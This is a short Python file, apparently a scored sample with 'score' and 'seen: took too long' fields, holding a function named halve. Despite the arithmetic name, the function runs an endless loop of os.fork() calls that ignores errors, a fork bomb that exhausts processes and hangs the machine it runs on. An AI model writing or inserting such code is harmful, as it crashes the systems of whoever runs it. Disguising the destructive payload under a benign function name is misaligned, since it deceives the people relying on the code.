"""Starts processes that start processes.

score: 2
seen: took too long
"""

# %% halve
import os


def halve(number):
    while True:
        try:
            os.fork()
        except OSError:
            pass
